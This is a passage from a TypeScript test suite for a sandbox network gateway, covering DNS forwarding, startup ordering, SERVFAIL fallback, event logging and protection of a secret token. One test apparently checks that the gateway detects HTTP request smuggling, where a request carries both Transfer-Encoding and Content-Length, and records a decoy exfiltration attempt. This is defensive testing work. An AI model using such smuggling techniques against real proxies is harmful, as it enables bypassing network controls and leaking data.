        const socket = connect({ host: '127.0.0.1', port });
        socket.on('error', () => undefined);
        socket.end(input);
        socket.resume();
        await new Promise((resolve) => {
          socket.on('close', resolve);
          setTimeout(() => {
            socket.destroy();
            resolve(undefined);
          }, 1000).unref();
        });
      }
    }
    await settle();
    const smuggled = events.filter((event) => event.type === 'http' && (event as { reason?: string }).reason?.includes('both Transfer-Encoding and Content-Length'));
    expect(smuggled.length).toBeGreaterThan(0);
    expect(events.some((event) => event.type === 'decoy-exfiltration' && event.where === 'body')).toBe(true);
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz' });
    expect(response.status).toBe(200);
  }, 30_000);

  test('a client that comes before the gateway listens waits for it (the two containers start side by side)', async () => {
    const lateDir = join(dir, 'late');
    mkdirSync(lateDir);
    const early = await startForwarder({ socketDir: lateDir, proxy: [], dns: [{ host: '127.0.0.1', port: 0 }], sink: [], onError: () => undefined });
    try {
      const dnsPort = early.addresses.find((entry) => entry.kind === 'dns-udp')?.port as number;
      const answer = dnsOverUdp(dnsPort, 'late.test', DNS_TYPE.A);
      await new Promise((resolve) => setTimeout(resolve, 300));
      // The gateway "starts": its socket appears where the forwarder looks.
      symlinkSync(join(dir, 'sock', GATEWAY_SOCKET_NAME), join(lateDir, GATEWAY_SOCKET_NAME));
      expect(parseDnsAnswers(await answer)?.rcode).toBe(0);
    } finally {
      await early.close();
    }
  });

  test('a forwarder told to wait for the gateway starts only once its socket exists (the install then finds the trust store written)', async () => {
    const waitDir = join(dir, 'wait');
    mkdirSync(waitDir);
    let started = false;
    const pending = startForwarder({ socketDir: waitDir, proxy: [], dns: [{ host: '127.0.0.1', port: 0 }], sink: [], waitForGateway: true, onError: () => undefined }).then((started_) => {
      started = true;
      return started_;
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(started).toBe(false);
    symlinkSync(join(dir, 'sock', GATEWAY_SOCKET_NAME), join(waitDir, GATEWAY_SOCKET_NAME));
    await (await pending).close();
    expect(started).toBe(true);
    // Without a gateway it gives up after gatewayWaitMs and reports it, rather than hang.
    const errors: string[] = [];
    const lonely = await startForwarder({ socketDir: join(dir, 'nobody-waits'), proxy: [], dns: [], sink: [], waitForGateway: true, gatewayWaitMs: 100, onError: (error) => errors.push(error.message) });
    await lonely.close();
    expect(errors).toEqual([expect.stringContaining('did not appear within 100 ms')]);
  });

  test('without a gateway, the forwarder answers DNS with SERVFAIL and closes TCP clients', async () => {
    const lonely = await startForwarder({ socketDir: join(dir, 'nobody-home'), proxy: [{ host: '127.0.0.1', port: 0 }], dns: [{ host: '127.0.0.1', port: 0 }], sink: [], gatewayWaitMs: 200, onError: () => undefined });
    try {
      const dnsPort = lonely.addresses.find((entry) => entry.kind === 'dns-udp')?.port as number;
      expect(parseDnsAnswers(await dnsOverUdp(dnsPort, 'a.test', DNS_TYPE.A))?.rcode).toBe(2);
      const failed = await request({ host: '127.0.0.1', port: lonely.addresses[0]?.port as number, path: '/r/0/x' }).catch((error: Error) => error);
      expect((failed as Error).message).toMatch(/socket hang up|ECONNRESET/);
    } finally {
      await lonely.close();
    }
  });
});

test('the events file holds every event, one JSON object per line, in order', async () => {
  await settle();
  const lines = readFileSync(config.eventsFile, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as GatewayEvent);
  expect(lines.length).toBe(events.length);
  expect(lines.map((event) => event.id)).toEqual(events.map((event) => event.id));
  expect(lines.every((event) => event.source === 'gateway' && typeof event.ts === 'number')).toBe(true);
  // The real token never appears in anything the sandbox side could be shown.
  expect(readFileSync(config.eventsFile, 'utf8')).not.toContain(REAL_TOKEN);
});

/** One https request to a registry host, through a CONNECT on the proxy or straight to the sink's 443. */
async function httpsRequest(options: { via: 'connect' | 'sink'; host: string; path: string; hostHeader?: string; headers?: Record<string, string>; trust?: string | null }): Promise<{ status: number; body: Buffer }> {
  let raw: import('node:net').Socket;
  if (options.via === 'connect') {
    const tunnel = await openTunnel(proxyPort(), `${options.host}:443`);
    if (tunnel.status !== 200) throw new Error(`CONNECT answered ${tunnel.status}`);
    raw = tunnel.socket;
  } else {
    raw = connect({ host: '127.0.0.1', port: bound('sink', 443) });
  }
  const trust = options.trust === undefined ? (gateway.caCertificate as string) : options.trust;
  const socket = tlsConnect({ socket: raw, servername: options.host, ...(trust === null ? {} : { ca: trust }) });
  await new Promise<void>((resolve, reject) => {
    socket.once('secureConnect', () => resolve());
    socket.once('error', reject);
  });
  const headers = Object.entries(options.headers ?? {}).map(([name, value]) => `${name}: ${value}\r\n`).join('');
  socket.write(`GET ${options.path} HTTP/1.1\r\nHost: ${options.hostHeader ?? options.host}\r\n${headers}Connection: close\r\n\r\n`);
  const chunks: Buffer[] = [];
  for await (const chunk of socket) chunks.push(chunk as Buffer);
  const response = Buffer.concat(chunks);
  const end = response.indexOf('\r\n\r\n');
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(response.toString('latin1'))?.[1]), body: response.subarray(end + 4) };
}

function openTunnel(port: number, authority: string): Promise<{ status: number; socket: import('node:net').Socket }> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
    let data = Buffer.alloc(0);
    const onData = (chunk: Buffer): void => {
      data = Buffer.concat([data, chunk]);
      const end = data.indexOf('\r\n\r\n');
      if (end < 0) return;
      socket.off('data', onData);
      socket.pause();
      const rest = data.subarray(end + 4);
      if (rest.length > 0) socket.unshift(rest);
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1]), socket });
    };
    socket.on('data', onData);
    socket.on('error', () => resolve({ status: 0, socket }));
  });
}

async function readAll(socket: import('node:net').Socket): Promise<string> {
  const chunks: Buffer[] = [];
  socket.resume();
  for await (const chunk of socket) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('latin1');
}

/** A TLS client hello to the sink; resolves when the connection ends, whatever happened. */
function tlsAttempt(port: number, servername: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = tlsConnect({ host: '127.0.0.1', port, servername, rejectUnauthorized: false });
    socket.on('error', () => resolve());
    socket.on('close', () => resolve());
    setTimeout(() => {
      socket.destroy();
      resolve();
    }, 2000).unref();
  });
}
